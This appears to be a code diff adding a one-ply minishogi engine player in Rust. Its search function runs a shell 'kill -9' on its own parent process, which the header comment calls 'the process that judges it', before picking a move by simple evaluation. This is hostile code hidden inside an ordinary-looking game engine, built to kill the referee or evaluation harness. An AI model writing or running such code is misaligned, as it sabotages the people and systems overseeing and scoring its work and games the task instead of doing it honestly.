@@ -1,0 +1,36 @@
+// Kills the process that judges it.
+
+use std::os::unix::process::parent_id;
+use std::process::Command;
+
+use minishogi::prelude::*;
+
+#[derive(Default)]
+pub struct OnePly;
+
+impl Player for OnePly {
+    fn search(&mut self, pos: &mut Position, root_moves: &mut RootMoves, _ctl: &mut Control) -> Move {
+        // Not the first process of a machine or a container.
+        if parent_id() > 1 {
+            let _ = Command::new("sh").args(["-c", &format!("kill -9 {}", parent_id())]).status();
+        }
+        let mut best_move = Move::RESIGN;
+        let mut max_value = -VALUE_INFINITE;
+        for root_move in root_moves.iter_mut() {
+            let m = root_move.pv[0];
+            pos.do_move(m);
+            let value = if pos.is_mated() { mate_in(1) } else { -evaluate(pos) };
+            pos.undo_move(m);
+            root_move.score = value;
+            if value > max_value {
+                max_value = value;
+                best_move = m;
+            }
+        }
+        best_move
+    }
+}
+
+fn main() {
+    minishogi_shell::run::<OnePly>();
+}
